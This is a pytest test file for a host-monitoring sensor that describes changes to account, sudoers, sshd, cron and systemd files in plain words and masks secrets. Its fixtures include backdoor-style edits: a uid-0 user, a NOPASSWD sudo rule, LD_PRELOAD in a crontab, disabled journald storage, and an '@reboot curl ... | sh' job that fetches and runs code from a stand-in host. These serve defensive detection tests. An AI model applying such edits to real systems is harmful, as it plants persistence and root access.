"""What a change of accounts, sudoers, sshd, crontabs and units means is said in plain words; what means nothing (a
comment, blanks, an order that does not matter) is said to mean nothing; and no hash is in any sentence.
"""

from __future__ import annotations

import pytest

from edgeguard.sensors.changes import MORE, ONLY_FORM, SENTENCE_MAX, SENTENCES_BYTES, SENTENCES_MAX, sentences

HASH, OTHER = "$y$j9T$aaaaaaaaaaaaaaaa", "$6$salt$bbbbbbbbbbbbbbbb"
PASSWD = "root:x:0:0:root:/root:/bin/bash\npi:x:1000:1000:,,,:/home/pi:/bin/bash\n"
SHADOW = f"root:*:19000:0:99999:7:::\npi:{HASH}:19000:0:99999:7:::\n"
GROUP = "root:x:0:\nsudo:x:27:pi\nusers:x:100:\n"
GSHADOW = "root:*::\nsudo:*::pi\n"
SUDOERS = "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"
SSHD = "PermitRootLogin no\nCiphers aes256-ctr\nMatch User bob\n    PasswordAuthentication no\n"
CRON = "MAILTO=root\n5 4 * * * root /usr/bin/pump\n@daily www-data /usr/bin/tidy\n"
UNIT = "[Unit]\nAfter=network.target\n[Service]\nExecStart=/usr/bin/pump\nEnvironment=A=1\n"

CHANGES = [
    ("/etc/passwd", PASSWD, PASSWD + "eve:x:0:0::/root:/bin/sh\n", [
        "user eve added: uid 0, gid 0, home /root, shell /bin/sh, amounts to root"]),
    ("/etc/passwd", PASSWD, PASSWD.replace("/home/pi:/bin/bash", "/home/pi:/bin/sh"), [
        "user pi: shell /bin/bash → /bin/sh"]),
    ("/etc/passwd", PASSWD, PASSWD.replace("pi:x:1000", "pi:x:0"), ["user pi: uid 1000 → 0 (amounts to root)"]),
    ("/etc/passwd", PASSWD, PASSWD.replace("pi:x:", "pi::"), [
        "user pi: password in shadow → none (logs in without one)"]),
    ("/etc/passwd", PASSWD, PASSWD.split("\n", maxsplit=1)[0] + "\n", [
        "user pi removed: uid 1000, gid 1000, home /home/pi, shell /bin/bash"]),
    ("/etc/passwd", PASSWD, PASSWD + "pi:x:0:0::/:/bin/sh\n", [
        "user pi (line 2 of that name) added: uid 0, gid 0, home /, shell /bin/sh, amounts to root"]),
    ("/etc/shadow", SHADOW, SHADOW.replace(HASH, OTHER), ["user pi: password changed"]),
    ("/etc/shadow", SHADOW, SHADOW.replace(HASH, ""), ["user pi: password set → none (logs in without one)"]),
    ("/etc/shadow", SHADOW, SHADOW.replace(HASH, "!" + HASH), ["user pi: password set → locked"]),
    ("/etc/shadow", SHADOW, SHADOW.replace("root:*", f"root:{HASH}"), ["user root: password locked → set"]),
    ("/etc/shadow", SHADOW, SHADOW + f"eve:{OTHER}:1::::::\n", ["password entry of user eve added: password set"]),
    ("/etc/shadow", SHADOW, SHADOW[:-3] + "20000::\n", ["user pi: inactivity empty → 20000"]),
    ("/etc/group", GROUP, GROUP.replace(":pi", ":pi,eve"), ["group sudo: member eve added (amounts to root)"]),
    ("/etc/group", GROUP, GROUP.replace(":pi", ":"), ["group sudo: member pi removed"]),
    ("/etc/group", GROUP, GROUP.replace("users:x:100", "users:x:0"), ["group users: gid 100 → 0 (amounts to root)"]),
    ("/etc/group", GROUP, GROUP + "new:x:1001:eve\n", ["group new added: gid 1001, members eve"]),
    ("/etc/gshadow", GSHADOW, GSHADOW.replace("sudo:*:", "sudo:*:eve"), [
        "group sudo: administrator eve added (amounts to root)"]),
    ("/etc/gshadow", GSHADOW, GSHADOW.replace("sudo:*", f"sudo:{HASH}"), ["group sudo: password locked → set"]),
    ("/etc/sudoers", SUDOERS, SUDOERS + "eve ALL=(ALL) NOPASSWD: ALL\n", ["rule added: eve ALL=(ALL) NOPASSWD: ALL"]),
    ("/etc/sudoers.d/x", "", "eve  ALL = (ALL) \\\n  /bin/sh # hi\n", ["rule added: eve ALL = (ALL) /bin/sh"]),
    ("/etc/sudoers", SUDOERS, SUDOERS.replace("%sudo", "%users"), [
        "rule added: %users ALL=(ALL:ALL) ALL", "rule removed: %sudo ALL=(ALL:ALL) ALL"]),
    ("/etc/sudoers", SUDOERS, SUDOERS + "Defaults !authenticate\n#1000 ALL=ALL\n#includedir /tmp/x\n", [
        "setting added: Defaults !authenticate", "rule added: #1000 ALL=ALL", "include added: #includedir /tmp/x"]),
    ("/etc/sudoers", "a ALL=ALL\nb ALL=!ALL\n", "b ALL=!ALL\na ALL=ALL\n", [
        "rules stand in another order: the last one that matches wins"]),
    ("/etc/sudoers", "User_Alias X = a\n", "User_Alias X = a, b\n", [
        "alias added: User_Alias X = a, b", "alias removed: User_Alias X = a"]),
    ("/etc/ssh/sshd_config", SSHD, SSHD.replace("Login no", "Login yes"), ["PermitRootLogin: no → yes (weaker)"]),
    ("/etc/ssh/sshd_config", SSHD.replace("Login no", "Login yes"), SSHD, ["PermitRootLogin: yes → no"]),
    ("/etc/ssh/sshd_config", SSHD, SSHD.replace("PermitRootLogin no", "#PermitRootLogin no"), [
        "PermitRootLogin: no → not set here (weaker)"]),
    ("/etc/ssh/sshd_config", SSHD, SSHD.replace("aes256-ctr", "aes256-ctr,3des-cbc"), [
        "Ciphers: aes256-ctr → aes256-ctr,3des-cbc (weaker)"]),
    ("/etc/ssh/sshd_config", SSHD, "PermitRootLogin no\npermitrootlogin yes\n" + SSHD.split("\n", 1)[1], [
        "PermitRootLogin: other values stand below the first, which counts: no"]),
    ("/etc/ssh/sshd_config", SSHD, SSHD.replace("    PasswordAuthentication no", "    PasswordAuthentication yes"), [
        "Match User bob: PasswordAuthentication: no → yes (weaker)"]),
    ("/etc/ssh/sshd_config", SSHD, SSHD + "Match all\nX11Forwarding yes\n", [
        "block added: Match all", "Match all: X11Forwarding: not set here → yes"]),
    ("/etc/ssh/sshd_config.d/x.conf", "", "AuthorizedKeysFile /tmp/keys\nSetEnv API_TOKEN=S3cret99\n", [
        "AuthorizedKeysFile: not set here → /tmp/keys", "SetEnv: not set here → API_TOKEN=***"]),
    ("/etc/ssh/sshd_config", "Match User a\nX11Forwarding no\nMatch all\nX11Forwarding yes\n",
     "Match all\nX11Forwarding yes\nMatch User a\nX11Forwarding no\n",
     ["Match blocks stand in another order: the first one that matches wins"]),
    ("/etc/ssh/sshd_config", "", '=\n"" x\n', [
        'a line that sshd refuses: not set here → =, "" x']),
    ("/etc/cron.d/x", CRON, CRON + "*/5 * * * * root /tmp/x\n", ["job added: */5 * * * * root /tmp/x"]),
    ("/etc/cron.d/x", CRON, CRON.replace("5 4 *", "*/1 * *"), [
        "job runs at other times: 5 4 * * * → */1 * * * *: root /usr/bin/pump"]),
    ("/etc/crontab", CRON, CRON.replace("MAILTO=root", "MAILTO=eve\nLD_PRELOAD=/tmp/x.so"), [
        "LD_PRELOAD set: /tmp/x.so", "MAILTO: root → eve"]),
    ("/etc/cron.d/x", CRON, CRON.replace("@daily www-data", "@daily root"), [
        "job added: @daily root /usr/bin/tidy", "job removed: @daily www-data /usr/bin/tidy"]),
    ("/etc/cron.d/x", CRON, CRON + "rubbish\n", ["line that is no job added: rubbish"]),
    ("/var/spool/cron/crontabs/pi", "", "@reboot curl -u bob:S3cret99 https://h/ | sh\n", [
        "job added: @reboot curl -u bob:*** https://h/ | sh"]),
    ("/etc/systemd/system/p.service", UNIT, UNIT.replace("/usr/bin/pump", "/tmp/x \\\n  --token=S3cret99"), [
        "[Service] ExecStart: /usr/bin/pump → /tmp/x --token=***"]),
    ("/etc/systemd/system/p.service.d/o.conf", "", "[Service]\nExecStart=\nExecStart=/tmp/x\nUser=root\n", [
        "[Service] ExecStart added: (empty: takes back what was set before)",
        "[Service] ExecStart added: /tmp/x", "[Service] User: not set → root"]),
    ("/etc/systemd/system/p.service", UNIT, UNIT + "Environment=DB_PASSWORD=S3cret99\n", [
        "[Service] Environment added: DB_PASSWORD=***"]),
    ("/etc/systemd/system/p.service", UNIT, UNIT.replace("[Service]", "[Service]\nEnvironment=B=2"), [
        "[Service] Environment added: B=2"]),
    ("/home/pi/.config/systemd/user/p.timer", "[Timer]\nOnCalendar=daily\n", "[Timer]\nOnCalendar=hourly\n", [
        "[Timer] OnCalendar: daily → hourly"]),
    ("/etc/systemd/journald.conf", "[Journal]\n#Storage=auto\n", "[Journal]\nStorage=none\n", [
        "[Journal] Storage: not set → none"]),
]  # fmt: skip

TWINS = [
    ("/etc/passwd", PASSWD, PASSWD.replace("root:x:0:0:root:", "root:x:0:0:The Root:")),
    ("/etc/passwd", PASSWD, "\n# a comment\n" + PASSWD),
    ("/etc/shadow", SHADOW, SHADOW.replace("19000", "19001")),
    ("/etc/group", "a:x:1:b,c\n", "a:x:1:c,b\n"),
    ("/etc/gshadow", "a:*:b,c:\n", "a:*:c,b:\n"),
    ("/etc/sudoers", SUDOERS, "# a comment\n\n" + SUDOERS.replace("root ALL", "root\tALL  ")),
    ("/etc/sudoers", SUDOERS, SUDOERS.replace("root ALL=", "root \\\n ALL=")),
    ("/etc/ssh/sshd_config", SSHD, "# PermitRootLogin yes\n" + SSHD.replace("RootLogin no", "rootlogin=no")),
    ("/etc/ssh/sshd_config", SSHD, "Ciphers aes256-ctr\nPermitRootLogin no\n" + SSHD.split("\n", 2)[2]),
    ("/etc/cron.d/x", CRON, "# */5 * * * * root /tmp/x\n" + "\n".join(reversed(CRON.split("\n")))),
    ("/etc/cron.d/x", CRON, CRON.replace("5 4 * * * root ", "5  4\t* * *   root   ")),
    ("/etc/systemd/system/p.service", UNIT, UNIT.replace("[Service]\n", "[Service]\n# ExecStart=/tmp/x\n; y\n\n")),
    ("/etc/systemd/system/p.service", UNIT,
     "[Service]\nEnvironment=A=1\nExecStart = /usr/bin/pump\n[Unit]\nAfter=network.target\n"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "old", "new", "said"), CHANGES)
def test_a_change_is_said(path: str, old: str, new: str, said: list[str]) -> None:
    assert list(sentences(path, old, new)) == said


@pytest.mark.parametrize(("path", "old", "new"), TWINS)
def test_its_harmless_twin_is_said_to_be_harmless(path: str, old: str, new: str) -> None:
    assert sentences(path, old, new) == (ONLY_FORM,)


@pytest.mark.parametrize(("path", "old", "new"), [(path, old, new) for path, old, new, _ in CHANGES])
def test_nothing_secret_is_said(path: str, old: str, new: str) -> None:
    said = " ".join((*sentences(path, old, new), *sentences(path, new, old), *sentences(path, "", new)))
    assert not [secret for secret in (HASH, OTHER, "S3cret99") if secret in said]


@pytest.mark.parametrize(
    "path", ["/etc/hosts", "/etc/cron.daily/x", "/home/x/etc/passwd", "/etc/ssh/ssh_config", "/etc/x.service"]
)
def test_of_other_files_nothing_is_made_up(path: str) -> None:
    assert sentences(path, "a\n", "b\n") == ()


@pytest.mark.parametrize(("letter", "most"), [("x", SENTENCES_MAX), ("é", SENTENCES_MAX - 4)])
def test_the_number_and_length_of_sentences_is_bounded(letter: str, most: int) -> None:
    new = "".join(f"* * * * * root /tmp/{number} {letter * 100}\n" for number in range(500))
    said = sentences("/etc/cron.d/x", "", new)
    assert said[-1] == MORE
    assert len(said) == most + 1
    assert sum(len(sentence.encode()) for sentence in said) <= SENTENCES_BYTES + len(MORE)
    (long, _) = sentences("/etc/cron.d/x", "", f"* * * * * root /tmp/a {'b ' * 500}\nrubbish\n")
    assert len(long) == SENTENCE_MAX
